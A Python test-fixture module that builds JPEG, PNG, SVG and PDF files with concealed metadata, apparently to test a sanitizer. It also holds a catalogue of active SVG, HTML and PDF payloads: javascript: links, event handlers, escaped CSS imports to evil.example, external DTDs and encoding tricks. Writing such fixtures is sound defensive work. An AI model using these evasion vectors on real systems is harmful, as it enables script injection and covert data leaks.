"""Makes pictures, drawings, PDFs and data with things in them that readers do not see."""

from __future__ import annotations

import base64
import io
import zlib

import pikepdf
from PIL import Image, ImageCms, ImageDraw, PngImagePlugin

SECRET = "ottiline-quenby"
"""Stands in each hidden place. It must be in no published file."""

HIDDEN = SECRET.encode()


def drawn(size: tuple[int, int] = (120, 80), mode: str = "RGB") -> Image.Image:
    """A picture whose corners differ, so that it cannot be turned unseen."""
    image = Image.new("RGB", size, (240, 240, 235))
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, size[0] // 3, size[1] // 3), fill=(200, 30, 30))
    draw.rectangle((size[0] // 2, size[1] // 2, size[0], size[1]), fill=(20, 90, 160))
    return image.convert(mode)


def exif(orientation: int = 1) -> Image.Exif:
    """Camera metadata with a place, an author, a device and a comment."""
    tags = Image.Exif()
    tags.update({0x010F: f"{SECRET}'s phone", 0x0131: SECRET, 0x013B: SECRET, 0x0112: orientation})
    tags.get_ifd(0x8825).update({1: "N", 2: (51.0, 45.0, 0.0)})
    tags.get_ifd(0x8769).update({0xA431: SECRET, 0x9286: b"ASCII\0\0\0" + HIDDEN})
    return tags


def written(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def jpeg(orientation: int = 1, kind: str = "JPEG", **options: object) -> bytes:
    """A JPEG with Exif, XMP, a comment, a segment of a program, and data behind its end."""
    image = drawn()
    content = written(image, kind, exif=exif(orientation), quality=90, comment=HIDDEN,
                      xmp=b"<x:xmpmeta>" + HIDDEN + b"</x:xmpmeta>", **options)
    segment = b"\xff\xec" + (len(HIDDEN) + 2).to_bytes(2, "big") + HIDDEN
    return content[:2] + segment + content[2:] + HIDDEN


def phone_jpeg() -> bytes:
    """A phone's JPEG with a second picture in it."""
    return written(drawn(), "MPO", save_all=True, append_images=[drawn((60, 40))], exif=exif())


def chunk(name: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")


def png(image: Image.Image | None = None, **options: object) -> bytes:
    """A PNG with texts under harmless keys, Exif, a private chunk, and data behind its end."""
    info = PngImagePlugin.PngInfo()
    for key in ("Software", "date:create", "Author"):
        info.add_text(key, SECRET)
    info.add_itxt("XML:com.adobe.xmp", SECRET)
    content = written(image or drawn(), "PNG", pnginfo=info, exif=exif(), **options)
    return content[:-12] + chunk(b"prVt", HIDDEN) + content[-12:] + HIDDEN


def profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes()


def svg(inside: str = "", attributes: str = "", before: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{before}<svg xmlns="http://www.w3.org/2000/svg" '
            f'xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" {attributes}>{inside}</svg>').encode()


CHART = (
    '<!-- {secret} --><metadata><dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">{secret}</dc:creator></metadata>'
    '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/x" note="{secret}"/>'
    "<defs><style type='text/css'><![CDATA[/* {secret} */ .line, text.a {{ stroke: #003078; fill: none }}]]></style>"
    '<linearGradient id="g"><stop offset="0" style="stop-color:#ff0000;stop-opacity:1"/>'
    '<stop offset="1" stop-color="blue"/></linearGradient><path id="glyph" d="M0 0L10 10"/></defs>'
    '<title>Plans on time</title><rect width="200" height="50" fill="url(#g)" data-note="{secret}"/>'
    '<g transform="translate(10,20)" style="font-family:\'Arial\';fill:rgb(1,2,3)" id="{id}">'
    '<text x="5" y="15" xml:space="preserve">58 %<tspan dy="3">in 2025</tspan></text>'
    '<use xlink:href="#glyph" x="3"/><path class="line" d="M0,0 L50,20"/></g>'
    '<a xlink:href="javascript:top.hit=1"><circle cx="150" cy="70" r="9" onclick="top.hit=1"/></a>'
    '<script>top.hit=1 // {secret}</script><image width="40" height="30" xlink:href="{picture}"/>')


def chart() -> bytes:
    """A drawing as programs save it, with their notes, a link, a program, and a photo with a place."""
    picture = "data:image/jpeg;base64," + base64.b64encode(jpeg()).decode()
    return svg(CHART.format(secret=SECRET, id="figure", picture=picture), f'onload="top.hit=1;{SECRET}"')


ACTS = {
    "form-action": '<div xmlns="http://www.w3.org/1999/xhtml"><form action="javascript:top.hit=1"><button>x</button>'
                   "</form></div>",
    "form-sends": '<div xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/"><input/></form></div>',
    "html-image": '<div xmlns="http://www.w3.org/1999/xhtml"><img srcset="https://evil.example/a.png"/></div>',
    "html-root": "<html><body><script>top.hit=1</script></body></html>",
    "plain-svg": "<svg><script>top.hit=1</script></svg>",
    "nested-html": svg('<div xmlns="http://www.w3.org/1999/xhtml"><script>top.hit=1</script></div>'),
    "nested-form": svg('<form xmlns="http://www.w3.org/1999/xhtml" action="javascript:top.hit=1"><button/></form>'),
    "foreign-object": svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'),
    "image-set": svg('<rect style="fill:red;background:image-set(&quot;https://evil.example/a.png&quot; 1x)"/>'),
    "escaped-url": svg(r'<rect style="fill:u\72l(https://evil.example/a.svg#x)"/>'),
    "escaped-import": svg(r"<style>@\69mport 'https://evil.example/a.css';</style>"),
    "import": svg("<style>@import 'https://evil.example/a.css';</style>"),
    "font-face": svg(r"<style>@font-face{font-family:x;src:u\rl(https://evil.example/a.woff)}</style>"),
    "cross-fade": svg("<style>rect{fill:-webkit-cross-fade(url(https://evil.example/a.png),red)}</style><rect/>"),
    "source": svg("<style>rect{fill:src('https://evil.example/a.png')}</style><rect/>"),
    "cursor": svg("<style>rect{cursor:image-set('https://evil.example/a.png' 1x),auto}</style><rect/>"),
    "comment-in-word": svg("<style>rect{fill:u/**/rl(https://evil.example/a.svg#x)}</style><rect/>"),
    "fill-outside": svg('<rect fill="url(https://evil.example/a.svg#x)"/>'),
    "use-outside": svg('<use xlink:href="https://evil.example/a.svg#x"/>'),
    "image-outside": svg('<image href="https://evil.example/a.png"/>'),
    "image-svg": svg('<image href="data:image/svg+xml,&lt;svg xmlns=&quot;x&quot;/&gt;"/>'),
    "filter-image": svg('<filter id="f"><feImage href="https://evil.example/a.png"/></filter>'),
    "animation": svg('<a id="l"><animate attributeName="href" to="javascript:top.hit=1"/><rect/></a>'),
    "set": svg('<set attributeName="onmouseover" to="top.hit=1"/>'),
    "audio": svg('<audio xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/a.mp3"/>'),
    "style-sheet": svg(before='<?xml-stylesheet href="https://evil.example/a.css"?>'),
    "entities": svg("&a;", before='<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>'),
    "outside-entity": svg(before='<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd">'),
    "event": svg('<rect width="90" height="90" onmouseover="top.hit=1" ONCLICK="top.hit=1"/>', 'onload="top.hit=1"'),
    "link": svg('<a href="javascript:top.hit=1" target="_top"><rect width="200" height="100"/></a>'),
    "handler": svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">top.hit=1</handler>'),
    "other-encoding": svg("<text>+ADw-circle+AD4-</text>").replace(b"UTF-8", b"UTF-7"),
    "utf-16": svg("<script>top.hit=1</script>").decode().replace("UTF-8", "UTF-16").encode("utf-16"),
}
"""Drawings that run, send or load something when they are opened: attack.md's ways and some more."""


def pdf(*, text: str = "The board met", secret: str = SECRET, hidden_layer: bool = False) -> bytes:
    """A PDF with `secret` in every hidden place, and two earlier versions kept in it."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(300, 200))
    name, make = pikepdf.Name, document.make_indirect
    font = make(pikepdf.Dictionary(Type=name.Font, Subtype=name.Type1, BaseFont=name.Helvetica, Note=secret))
    image = document.make_stream(jpeg(), Type=name.XObject, Subtype=name.Image, Width=120, Height=80,
                                 ColorSpace=name.DeviceRGB, BitsPerComponent=8, Filter=name.DCTDecode, Owner=secret)
    form = document.make_stream(f"% {secret}\n0 0 1 rg 5 5 9 9 re f".encode(), Type=name.XObject, Subtype=name.Form,
                                BBox=[0, 0, 20, 20], PieceInfo=pikepdf.Dictionary(A=secret))
    unused = document.make_stream(HIDDEN, Type=name.XObject, Subtype=name.Form, BBox=[0, 0, 1, 1])
    page.obj.Resources = pikepdf.Dictionary(
        Font={"/F": font}, XObject={"/AA": image, "/OC": form, "/No": unused}, Odd=document.make_stream(HIDDEN))
    page.obj.Contents = document.make_stream(
        f"% {secret}\n/P <</MCID 0 /Note ({secret})>> BDC BT /F 12 Tf 20 150 Td ({text}) Tj ET EMC "
        "q 60 0 0 40 20 60 cm /AA Do Q /OC Do".encode())
    page.obj.PieceInfo = pikepdf.Dictionary(X=secret)
    page.obj.Metadata = document.make_stream(HIDDEN)
    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=name.JavaScript, JS=secret))
    shown = document.make_stream(b"BT /F 10 Tf 2 4 Td (Answered) Tj ET", Type=name.XObject, Subtype=name.Form,
                                 BBox=[0, 0, 80, 16], Resources=pikepdf.Dictionary(Font={"/F": font}))
    field = make(pikepdf.Dictionary(Type=name.Annot, Subtype=name.Widget, FT=name.Tx, T=secret, TU=secret, DV=secret,
                                    V="Answered", Rect=[200, 20, 280, 36], F=4, AP=pikepdf.Dictionary(N=shown)))
    concealed = make(pikepdf.Dictionary(Type=name.Annot, Subtype=name.Widget, FT=name.Tx, T="x", V=secret, F=2,
                                        Rect=[0, 0, 9, 9]))
    note = make(pikepdf.Dictionary(Type=name.Annot, Subtype=name.Text, Contents=secret, T=secret, Subj=secret,
                                   RC=f"<body>{secret}</body>", Rect=[0, 0, 9, 9], F=2))
    link = make(pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[20, 150, 90, 165], Contents=secret,
                                   A=pikepdf.Dictionary(S=name.URI, URI="https://council.example/minutes")))
    runs = make(pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 300, 200],
                                   A=pikepdf.Dictionary(S=name.JavaScript, JS=f"app.alert('{secret}')")))
    page.obj.Annots = pikepdf.Array([field, concealed, note, link, runs])
    root = document.Root
    root.AcroForm = pikepdf.Dictionary(Fields=[field, concealed], XFA=secret)
    root.OpenAction = pikepdf.Dictionary(S=name.JavaScript, JS=secret)
    root.Lang = "en-GB"
    root.MarkInfo = pikepdf.Dictionary(Marked=True)
    root.Private = pikepdf.Dictionary(A=secret)
    element = make(pikepdf.Dictionary(Type=name.StructElem, S=name.P, K=0, Pg=page.obj, Alt="A chart", T=secret))
    root.StructTreeRoot = make(pikepdf.Dictionary(Type=name.StructTreeRoot, K=[element]))
    element.P = root.StructTreeRoot
    if hidden_layer:
        layer = make(pikepdf.Dictionary(Type=name.OCG, Name="Names"))
        root.OCProperties = pikepdf.Dictionary(OCGs=[layer], D=pikepdf.Dictionary(OFF=[layer]))
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = [secret]
    document.docinfo["/Author"] = secret
    document.attachments["list.xlsx"] = pikepdf.AttachedFileSpec(document, HIDDEN, filename=f"{secret}.xlsx")
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("What was decided", 0))
    first = io.BytesIO()
    document.save(first, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return with_revision(first.getvalue())


def with_revision(content: bytes) -> bytes:
    """Return a PDF to which a later save appended an object, as editors do, and something behind its end."""
    start = int(content.rpartition(b"startxref\n")[2].split(b"\n")[0])
    trailer = content[content.rindex(b"trailer"):content.rindex(b"startxref")]
    trailer = trailer.replace(b"trailer", b"").strip().removesuffix(b">>")
    at = len(content)
    number = 1000
    added = f"{number} 0 obj\n({SECRET})\nendobj\n".encode()
    table = f"xref\n{number} 1\n{at:010} 00000 n \ntrailer\n".encode()
    return content + added + table + trailer + f" /Prev {start} >>\nstartxref\n{at + len(added)}\n%%EOF\n".encode() \
        + HIDDEN
